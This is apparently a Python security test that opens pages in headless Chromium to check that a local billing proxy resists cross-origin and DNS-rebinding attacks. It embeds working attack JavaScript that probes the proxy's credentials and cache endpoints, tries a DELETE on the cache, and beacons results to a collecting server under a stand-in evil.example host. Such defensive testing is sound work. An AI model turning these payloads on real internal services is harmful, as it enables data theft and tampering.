#!/usr/bin/env python3
"""A real browser in somebody else's hands: pages of other origins, opened in a headless Chromium on the machine on which
the demo runs, read nothing of the proxy and change nothing in it, by whatever name they speak to it. The status page,
opened by its own address, works.

BINARY names the program under test, CHROMIUM the browser. Nothing but the standard library is needed: a page sends home
what it found out. The last line is `N passed, N failed`.
"""

import contextlib
import http.client
import json
import os
import queue
import re
import signal
import subprocess
import tempfile
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from harness import BINARY, ROOT, check, equal, finish, free_ports

CHROMIUM = os.environ.get("CHROMIUM", "chromium")
PATIENCE = 60  # seconds for a page to send home what it found out
ASKED = "/organizations/acme/express/invoices"


def get(address, path, method="GET"):
    connection = http.client.HTTPConnection(*address, timeout=20)
    try:
        connection.request(method, path)
        answer = connection.getresponse()
        return answer.status, answer.read().decode()
    finally:
        connection.close()


class Pages(ThreadingHTTPServer):
    """Serves one page to everybody, and takes what pages send home."""

    daemon_threads = True
    allow_reuse_address = True

    def __init__(self, port, page, heard):
        self.page, self.heard = page, heard
        super().__init__(("127.0.0.1", port), Page)
        threading.Thread(target=self.serve_forever, args=(0.05,), daemon=True).start()

    def close(self):
        self.shutdown()
        self.server_close()


class Page(BaseHTTPRequestHandler):
    def do_GET(self):
        body = self.server.page.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        # What a lax server says: a page that could read the proxy could read this.
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Cache-Control", "no-store")
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.send_response(204)
        self.end_headers()
        self.server.heard.put(json.loads(body))

    def log_message(self, *_):
        pass


class Demo:
    def __init__(self, listen=0, admin=0):
        command = [BINARY, "demo", "--listen", f"127.0.0.1:{listen}", "--admin", f"127.0.0.1:{admin}"]
        command += ["--simulator", "127.0.0.1:0"]
        self.process = subprocess.Popen(
            command, cwd=ROOT, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True
        )
        banner = ""
        for line in self.process.stdout:
            banner += line
            if "Ctrl-C" in line:
                break
        ports = [int(port) for port in re.findall(r"http://127\.0\.0\.1:(\d+)", banner)]
        if len(ports) < 4:
            raise SystemExit(f"the demo did not start: {banner}")
        self.data, self.admin = ("127.0.0.1", ports[0]), ("127.0.0.1", ports[1])
        simulator = re.search(r"simulated Talkdesk: http://127\.0\.0\.1:(\d+)/", banner)
        self.simulator = ("127.0.0.1", int(simulator[1]))
        # The access log is not read, and must not fill the pipe.
        threading.Thread(target=lambda: [None for _ in self.process.stdout], daemon=True).start()

    def settle(self):
        """Waits until the accounts are learned, so that what follows is the pages' doing alone."""
        before = None
        while (now := self.state()) != before:
            before = now
            time.sleep(1)
        return now

    def state(self):
        """What a page must not change: requests to Talkdesk, and what is in the cache."""
        counters = json.loads(get(self.simulator, "/_simulator/counters")[1])
        entries = json.loads(get(self.admin, "/api/cache")[1])["entries"]
        return counters["api"]["total"], counters["tokens"]["total"], entries

    def close(self):
        self.process.send_signal(signal.SIGINT)
        self.process.send_signal(signal.SIGINT)
        with contextlib.suppress(subprocess.TimeoutExpired):
            self.process.wait(10)
        self.process.kill()
        self.process.wait()


def chromium(profile, *arguments):
    command = [
        CHROMIUM,
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-quic",
        "--disable-dev-shm-usage",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        "--disable-default-apps",
        "--no-proxy-server",
        f"--user-data-dir={profile}",
        "--host-resolver-rules=MAP rebound.example 127.0.0.1, MAP evil.example 127.0.0.1",
    ]
    return command + list(arguments)


@contextlib.contextmanager
def opened(url):
    """The page in a browser of its own, until the block ends."""
    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as profile:
        log = open(os.path.join(profile, "browser.log"), "wb")
        browser = subprocess.Popen(
            chromium(profile, "--remote-debugging-port=0", url),
            stdin=subprocess.DEVNULL, stdout=log, stderr=log, start_new_session=True,
        )
        try:
            yield
        finally:
            # Its children are in the session that it leads.
            with contextlib.suppress(ProcessLookupError):
                os.killpg(browser.pid, signal.SIGKILL)
            browser.wait()
            log.close()


def shown(url):
    """The page as the browser has it once it is loaded, and what the browser complained of."""
    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as profile:
        done = subprocess.run(
            # Ten seconds of the page's own time, which are over at once, for its script to ask and draw.
            chromium(profile, "--enable-logging=stderr", "--virtual-time-budget=10000", "--dump-dom", url),
            stdin=subprocess.DEVNULL, capture_output=True, timeout=PATIENCE, check=False,
        )
    return done.stdout.decode(errors="replace"), done.stderr.decode(errors="replace")


# Each way to reach over to another origin, and what came of it.
ATTACK = """<!doctype html><title>evil</title><body><script>
const bases = BASES, lax = LAX, found = [];
const within = (promise) => Promise.race([promise, new Promise((done) => setTimeout(() => done({ error: 'late' }), 8000))]);
async function attempt(what, url, options) {
  try {
    const answer = await fetch(url, { cache: 'no-store', ...options });
    return { what, url, type: answer.type, status: answer.status, text: (await answer.text()).slice(0, 300) };
  } catch (error) { return { what, url, error: String(error) }; }
}
const tagged = (what, url, tag, attribute) => new Promise((done) => {
  const element = document.createElement(tag);
  element.onload = () => done({ what, url, loaded: true });
  element.onerror = () => done({ what, url, loaded: false });
  element[attribute] = url;
  document.body.append(element);
});
const framed = (what, url, post) => new Promise((done) => {
  const frame = document.createElement('iframe');
  frame.name = 'frame' + Math.random();
  document.body.append(frame);
  const look = () => {
    let text = null;
    try { text = frame.contentDocument.body.innerText; } catch (error) {}
    done({ what, url, text: text && text.slice(0, 300) });
  };
  setTimeout(look, 1500);
  if (post) {
    const form = document.createElement('form');
    form.method = 'POST'; form.action = url; form.target = frame.name; form.enctype = 'text/plain';
    document.body.append(form);
    form.submit();
  } else { frame.src = url; }
});
(async () => {
  found.push(await within(attempt('control', lax, {})));
  for (const { base, paths } of bases) {
    const ways = [];
    for (const path of paths) {
      const url = base + path;
      ways.push(attempt('cors', url, {}), attempt('no-cors', url, { mode: 'no-cors' }));
      ways.push(attempt('with a field', url, { headers: { 'X-Tenant': 'organizations/acme' } }));
      ways.push(attempt('with credentials', url, { credentials: 'include' }));
      ways.push(attempt('post', url, { method: 'POST', mode: 'no-cors', body: 'a=b' }));
      ways.push(attempt('delete', url, { method: 'DELETE' }));
      ways.push(tagged('image', url, 'img', 'src'), tagged('script', url, 'script', 'src'));
      ways.push(framed('frame', url, false), framed('form', url, true));
    }
    found.push(...await Promise.all(ways.map(within)));
  }
  await fetch('/', { method: 'POST', body: JSON.stringify(found) });
})();
</script>"""

# A page whose name turns into the proxy's address: its own origin becomes the proxy.
REBINDING = """<!doctype html><title>evil</title><body><script>
const marker = 'EVIL-PAGE', paths = PATHS;
(async () => {
  navigator.sendBeacon('HOME', JSON.stringify('open'));
  for (;;) {
    await new Promise((done) => setTimeout(done, 200));
    try {
      const text = await (await fetch('/?' + Math.random(), { cache: 'no-store' })).text();
      if (!text.includes(marker)) { break; }
    } catch (error) {}
  }
  const found = [];
  for (const [method, path] of paths) {
    try {
      const answer = await fetch(path, { method, cache: 'no-store' });
      found.push({ method, path, status: answer.status, text: (await answer.text()).slice(0, 300) });
    } catch (error) { found.push({ method, path, error: String(error) }); }
  }
  navigator.sendBeacon('HOME', JSON.stringify(found));
})();
</script>EVIL-PAGE"""

DATA_PATHS = [ASKED, "/"]
ADMIN_PATHS = ["/", "/metrics", "/api/tenants", "/api/credentials", "/api/cache"]
# Words that stand in answers of the proxy, and in no page of these.
BETRAYING = re.compile(r"_embedded|billing|organizations/|credential|entries|monthly_usage", re.IGNORECASE)


def other_origins(demo):
    for page_host in ("evil.example", "127.0.0.1"):
        bases = []
        for name in ("localhost", "127.0.0.1", "rebound.example"):
            bases.append({"base": f"http://{name}:{demo.data[1]}", "paths": DATA_PATHS})
            bases.append({"base": f"http://{name}:{demo.admin[1]}", "paths": ADMIN_PATHS})
        heard = queue.Queue()
        lax = Pages(0, "a lax server", heard)
        page = ATTACK.replace("BASES", json.dumps(bases)).replace("LAX", f'"http://127.0.0.1:{lax.server_port}/"')
        pages = Pages(0, page, heard)
        get(demo.data, ASKED)
        before = demo.settle()
        with opened(f"http://{page_host}:{pages.server_port}/"):
            try:
                found = heard.get(timeout=PATIENCE)
            except queue.Empty:
                check(f"a page of {page_host} sends home", False, "nothing")
                continue
        after = demo.state()
        pages.close()
        lax.close()
        control = found.pop(0)
        equal(f"a page of {page_host} could read a lax server", "a lax server", control.get("text"))
        ended = [one for one in found if "url" in one]
        equal(f"a page of {page_host} tried every way to its end", (2 + 5) * 3 * 10, len(ended))
        for name in ("localhost", "127.0.0.1", "rebound.example"):
            mine = [one for one in found if f"//{name}:" in one.get("url", "")]
            read = [one for one in mine if BETRAYING.search(one.get("text") or "") or one.get("status")]
            loaded = [one for one in mine if one.get("loaded")]
            equal(f"a page of {page_host} reads nothing by {name}", [], read)
            equal(f"a page of {page_host} loads nothing by {name}", [], loaded)
        equal(f"a page of {page_host} changes nothing (requests to Talkdesk, entries)", before, after)


def rebinding():
    for plane, paths in (
        ("data", [["GET", ASKED], ["GET", "/"]]),
        ("admin", [["GET", "/"], ["GET", "/metrics"], ["GET", "/api/tenants"], ["DELETE", "/api/cache"]]),
    ):
        port, heard = free_ports(1)[0], queue.Queue()
        home = Pages(0, "", heard)
        page = REBINDING.replace("PATHS", json.dumps(paths))
        pages = Pages(port, page.replace("HOME", f"http://127.0.0.1:{home.server_port}/"), heard)
        with opened(f"http://rebound.example:{port}/"):
            try:
                heard.get(timeout=PATIENCE)
                # The name points at the proxy from here on.
                pages.close()
                demo = Demo(**{"listen" if plane == "data" else "admin": port})
                try:
                    get(demo.data, ASKED)
                    found = heard.get(timeout=PATIENCE)
                    entries = demo.state()[2]
                finally:
                    demo.close()
            except queue.Empty:
                check(f"{plane}: a rebound page sends home", False, "nothing")
                continue
            finally:
                home.close()
        refused = [one for one in found if one.get("status") == 421 and "host_not_allowed" in one.get("text", "")]
        equal(f"{plane}: a rebound page is answered 421, whatever it asks its own origin", len(paths), len(refused))
        seen = [one for one in found if "_embedded" in one.get("text", "") or "# TYPE" in one.get("text", "")]
        equal(f"{plane}: a rebound page reads nothing", [], seen)
        check(f"{plane}: a rebound page empties no cache", entries > 0, entries)


def own_page(demo):
    for name in ("127.0.0.1", "localhost"):
        page, complaints = shown(f"http://{name}:{demo.admin[1]}/")
        for part in ("<h1>billing-insights-proxy", "organizations/acme", "reseller_sold", "<h2>Cache</h2>"):
            check(f"the status page by {name} shows {part}", part in page, page[:300])
        refused = [line for line in complaints.splitlines() if "Content Security Policy" in line or "Refused to" in line]
        equal(f"the status page by {name} asks for nothing that its own policy forbids", [], refused)


def main():
    demo = Demo()
    try:
        own_page(demo)
        other_origins(demo)
    finally:
        demo.close()
    rebinding()
    finish()


main()
